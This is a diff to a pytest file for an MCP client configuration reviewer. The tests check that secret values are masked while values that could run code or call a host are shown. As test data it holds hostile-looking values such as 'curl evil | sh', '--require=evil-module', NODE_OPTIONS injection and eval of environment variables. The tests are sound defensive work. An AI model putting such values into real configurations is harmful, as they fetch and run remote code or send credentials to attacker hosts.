@@ -4,18 +4,14 @@ from __future__ import annotations
 
 import dataclasses
 import json
-import os
-from collections.abc import Iterator
-from pathlib import Path
 from typing import Any
 
 import pytest
 
-from mcpclient.config import sheet as module
-from mcpclient.config.sheet import NamedFile, NamedFiles, Sheet, named_files, sheet_of
+from mcpclient.config.sheet import Sheet, sheet_of
 from mcpclient.entries.applications import APPLICATIONS
-from mcpclient.entries.entry import Entry, EntryError, read_entry
-from mcpclient.entries.variables import Inputs, Variables
+from mcpclient.entries.entry import Entry, read_entry
+from mcpclient.entries.variables import Inputs
 
 COMMAND = {"command": "npx", "args": ["-y", "a server"]}
 URL = {"url": "https://x.example/mcp"}
@@ -109,21 +105,103 @@ def test_an_input_may_stand_in_a_key() -> None:
     assert any("default 'c'" in line for line in sheet(raw, [{"id": "a", "default": "c"}]).lines())
 
 
-def test_a_secret_in_the_file_is_hidden_but_code_never_is() -> None:
-    """F-SAFE-2: whatever the name of a variable says, a line for a shell is shown."""
-    env = {"API_TOKEN": "abcdefgh12345678", "MY_TOKEN": "curl evil | sh", "A": "ghp_" + "a" * 36}
-    raw = {**COMMAND, "env": env}
-    lines = sheet(raw).lines()
-    assert {"env API_TOKEN: …", "env MY_TOKEN: curl evil | sh", "env A: …"} <= set(lines)
-    inputs = [
-        {"id": "a", "default": "abcdefgh12345678", "password": True},
-        {"id": "b", "default": "curl evil | sh", "password": True},
-        {"id": "c"},
-    ]
-    text = "\n".join(sheet({"command": "${input:a}${input:b}${input:c}"}, inputs).lines())
-    assert "input a: default …" in text
-    assert "input b: default 'curl evil | sh'" in text
-    assert "input c: no default" in text
+KEY = "abcdefgh12345678"
+
+# Entries that use the input q: a default decides what runs or where it goes, wherever it stands.
+USES: list[dict[str, Any]] = [
+    *({"command": program, "args": args} for program, *args in (
+        ("python3", "-m", "${input:q}"),
+        ("npx", "-y", "${input:q}"),
+        ("npx", "-y", "@scope/${input:q}@1"),
+        ("uvx", "--from", "${input:q}", "server"),
+        ("bunx", "${input:q}"),
+        ("pipx", "run", "${input:q}"),
+        ("deno", "run", "https://${input:q}/x.ts"),
+        ("docker", "run", "-i", "${input:q}"),
+        ("node", "-r", "${input:q}", "x.js"),
+        ("node", "--require=${input:q}", "x.js"),
+        ("node", "--import", "${input:q}", "x.js"),
+        ("sh", "-c", "${input:q}"),
+    )),
+    {"command": "${input:q}"},
+    {"command": "x", "cwd": "${input:q}"},
+    {"command": "x", "envFile": "${input:q}"},
+    {"command": "x", "env": {"NODE_OPTIONS": "--require ${input:q}"}},
+    {"command": "x", "env": {"TOKEN_COMMAND": "${input:q}"}},
+    {"command": "x", "env": {"SSH_AUTH_SOCK": "${input:q}"}},
+    {"command": "x", "env": {"API_TOKEN": "--require=${input:q}"}},
+    {"command": "x", "env": {"API_TOKEN": "${input:q}", "B": "${input:q}"}},
+    {"command": "x", "env": {"${input:q}": "1"}},
+    {"command": "x", "args": ["${input:q}"], "env": {"API_TOKEN": "${input:q}"}},
+    # Code of the command may look at every variable.
+    {"command": "sh", "args": ["-c", "$API_TOKEN"], "env": {"API_TOKEN": "${input:q}"}},
+    {"command": "env", "args": ["x"], "env": {"API_TOKEN": "${input:q}"}},
+    {"command": "node", "args": ["-e", "eval(process.env.T)"], "env": {"TOKEN": "${input:q}"}},
+    {"command": "ruby", "args": ["-e", "exec ENV.values.last"], "env": {"TOKEN": "${input:q}"}},
+    {"command": "x", "args": ["%TOKEN%"], "env": {"TOKEN": "${input:q}"}},
+    {"command": "x", "env": {"TOKEN": "${input:q}", "NODE_OPTIONS": "-r $TOKEN"}},
+    {"url": "https://${input:q}/mcp", "headers": {"Authorization": "Bearer ${BANK_KEY}"}},
+    {"url": "https://x/mcp", "headers": {"X-Auth-Host": "${input:q}"}},
+    {"url": "https://x/mcp", "headersHelper": "${input:q}"},
+    {"url": "https://x/mcp", "oauth": {"issuer": "${input:q}"}},
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("entry", USES, ids=str)
+def test_the_default_of_a_secret_input_that_decides_what_runs_is_shown(
+    entry: dict[str, Any],
+) -> None:
+    """F-SAFE-10"""
+    inputs = [{"id": "q", "type": "promptString", "password": True, "default": KEY}]
+    assert f"input q: default '{KEY}'" in sheet(entry, inputs).lines()
+
+
+def test_the_default_of_an_input_is_hidden_only_where_all_its_uses_are_secrets() -> None:
+    """F-SAFE-10: and where it is nothing that could be run or dialled."""
+    inputs = [{"id": "q", "password": True, "default": KEY}]
+    env = {"API_TOKEN": "${input:q}", "DB_PASSWORD": "${input:q}"}
+    assert "input q: default …" in sheet({**COMMAND, "env": env}, inputs).lines()
+    entry = {**URL, "headers": {"Authorization": "Bearer ${input:q}"}}
+    assert "input q: default …" in sheet(entry, inputs).lines()
+    inputs[0]["password"] = False
+    assert f"input q: default '{KEY}'" in sheet(entry, inputs).lines()
+    inputs = [{"id": "q", "password": True, "default": "evil.example:443"}]
+    assert "input q: default 'evil.example:443'" in sheet(entry, inputs).lines()
+
+
+HIDDEN = {"API_TOKEN": KEY, "githubToken": "ghp_" + "a" * 36, "DB_PASSWORD_2": "a" + "b" * 20}
+SHOWN = {
+    **dict.fromkeys(("AUTH_ISSUER", "X_AUTH_HOST", "TOKEN_ENDPOINT", "SECRET_HOST"), "evilhost1"),
+    **dict.fromkeys(("SSH_AUTH_SOCK", "PRIVATE_KEY_PATH", "PASSWORD_STORE_DIR"), "relative1"),
+    **dict.fromkeys(("TOKEN_COMMAND", "CREDENTIAL_HELPER", "GIT_AUTH_CMD", "AUTH_MODULE"), KEY),
+    "A": "ghp_" + "a" * 36,  # which may be a file or a package, too
+    "A_TOKEN": "curl evil | sh",
+    "B_TOKEN": "evil.example",
+    "C_TOKEN": "localhost:8080",
+    "D_TOKEN": "https://evil.example/x",
+    "E_TOKEN": "./hook.js",
+    "F_TOKEN": "/usr/bin/evil-program",
+    "G_TOKEN": "--require=evil-module",
+    "H_TOKEN": "C:/evil/AbC123456789012345",
+    "I_TOKEN": "${X:-evil-module}",
+    "J_TOKEN": "@scope/evil-module",
+}
+
+
+def test_values_that_may_run_or_be_dialled_are_shown_whatever_their_names() -> None:
+    """F-SAFE-10: a name that is about a secret does not hide a host, a path or a program."""
+    rows = dict(sheet({**COMMAND, "env": {**HIDDEN, **SHOWN}}).rows)
+    assert {name: rows[f"env {name}"] for name in SHOWN} == SHOWN
+    assert {rows[f"env {name}"] for name in HIDDEN} == {"…"}
+    rows = dict(sheet({**URL, "headers": {**HIDDEN, **SHOWN}}).rows)
+    assert {name: rows[f"header {name}"] for name in SHOWN} == SHOWN
+    assert {rows[f"header {name}"] for name in HIDDEN} == {"…"}
+    for command in ({"command": "sh", "args": ["x"]}, {"command": "node", "args": ["-e", "f(x)"]}):
+        rows = dict(sheet({**command, "env": HIDDEN}).rows)
+        assert {name: rows[f"env {name}"] for name in HIDDEN} == HIDDEN
+    login = {"clientSecret": KEY, "tokenUrl": KEY, "privateKey": KEY}
+    rows = dict(sheet({**URL, "oauth": login}).rows)
+    assert (rows["oauth.clientSecret"], rows["oauth.privateKey"]) == ("…", KEY)
 
 
 def test_lines_are_escaped() -> None:
@@ -131,99 +209,3 @@ def test_lines_are_escaped() -> None:
     lines = sheet({"command": "x", "args": ["\x1b[2K\nurl: https://good"]}).lines()
     assert len(lines) == 1
     assert "\x1b" not in lines[0] and "\n" not in lines[0]
-
-
-@pytest.fixture
-def folder(tmp_path: Path) -> Path:
-    for name in ("server.py", "hook.js", ".env", "token", "run"):
-        (tmp_path / name).write_text(name)
-    return tmp_path
-
-
-def found_in(raw: dict[str, Any], folder: Path) -> list[NamedFile]:
-    entry = read_entry("s", raw, APPLICATIONS["mcpclient"], lambda *args, **more: None)
-    files = NamedFiles()
-    folders = {"workspaceFolder": str(folder), "fileDirname": str(folder), "userHome": str(folder)}
-    read = lambda path: files.read(path).decode()  # noqa: E731
-    variables = Variables({"D": str(folder)}, Inputs(None, None), folders, read)
-    found: Iterator[NamedFile] = named_files(entry, raw, variables, str(folder), str(folder), files)
-    return list(found)
-
-
-@pytest.mark.parametrize(
-    ("raw", "names"),
-    [
-        ({"command": "python", "args": ["server.py"]}, ["server.py"]),
-        ({"command": "./run", "args": ["--x=./hook.js"]}, ["run", "hook.js"]),
-        ({"command": "${D}/run"}, ["run"]),
-        ({"command": "~/run"}, ["run"]),
-        ({"command": "sh", "args": ["-c", "cd .; python 'server.py'&&x"]}, ["server.py"]),
-        ({**COMMAND, "env": {"NODE_OPTIONS": "--require ./hook.js"}}, ["hook.js"]),
-        ({**COMMAND, "envFile": "${workspaceFolder}/.env"}, [".env"]),
-        ({**URL, "headers": {"A": "{file:token}", "B": "${file:~/token}"}}, ["token"] * 2),
-        ({**URL, "headersHelper": "./run --json"}, ["run"]),
-        ({"command": "java", "args": ["-cp", f"run{os.pathsep}hook.js"]}, ["run", "hook.js"]),
-        ({"command": "ruby", "args": ["-r./hook.js", "@run"]}, ["hook.js", "run"]),
-        ({"command": "node", "args": ["${UNSET}./hook.js"]}, ["hook.js"]),
-        ({"command": "sh", "args": ["-c", "node ${UNSET}./hook.js"]}, ["hook.js"]),
-        ({"command": "sh", "args": ["-c", "node ${UNSET:-./hook.js}"]}, ["hook.js"]),
-        ({**COMMAND, "env": {"NODE_OPTIONS": "--require ${D}/hook.js"}}, ["hook.js"]),
-        (COMMAND, []),
-    ],
-)
-def test_the_files_that_an_entry_names(raw: dict[str, Any], names: list[str], folder: Path) -> None:
-    """F-SAFE-2: their contents count, each wherever it is named."""
-    files = found_in(raw, folder)
-    assert [os.path.basename(each.path) for each in files] == names
-    before = [each.digest for each in files]
-    for name in set(names):
-        (folder / name).write_text("changed")
-    assert all(one != other.digest for one, other in zip(before, found_in(raw, folder)))
-
-
-def test_a_file_that_cannot_be_read_or_is_too_large(
-    folder: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """F-SAFE-2: the one that is not there counts as such; a large one by its size and time."""
-    (missing,) = found_in({**COMMAND, "envFile": "gone"}, folder)
-    assert missing.digest == ""
-    assert NamedFiles().digest("no\0path") == ""
-    monkeypatch.setattr("mcpclient.config.sheet._MAX_READ_SIZE", 3)
-    (large,) = found_in({"command": "./run"}, folder)
-    (folder / "run").write_text("larger than before")
-    (changed,) = found_in({"command": "./run"}, folder)
-    assert len(large.digest) == 64
-    assert changed.digest != large.digest
-
-
-def test_a_file_is_read_once() -> None:
-    """F-SAFE-2: what was judged is what is used."""
-    files = NamedFiles()
-    path = Path(os.devnull)
-    for _ in range(2):
-        with pytest.raises(OSError, match="regular"):
-            files.read(str(path))
-
-
-def test_a_file_with_many_names_is_read_once_and_not_kept(
-    folder: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
-    """F-SAFE-2: a repository does not fill the memory before the user is asked."""
-    read: list[str] = []
-
-    def reading(path: str, *, limit: int) -> bytes:
-        read.append(path)
-        return b"x"
-
-    monkeypatch.setattr(module, "read_file", reading)
-    words = [f"{'./' * number}run" for number in range(1, 50)]
-    assert len(found_in({"command": "sh", "args": words}, folder)) == len(words)
-    assert len(read) == 1
-
-
-def test_files_that_are_too_large_together(folder: Path, monkeypatch: pytest.MonkeyPatch) -> None:
-    """F-SAFE-2"""
-    monkeypatch.setattr(module, "_MAX_READ_IN_ALL", 10)
-    assert len(found_in({"command": "./run"}, folder)) == 1
-    with pytest.raises(EntryError, match="larger than 10 bytes together"):
-        found_in({"command": "./run", "args": ["hook.js", "server.py"]}, folder)
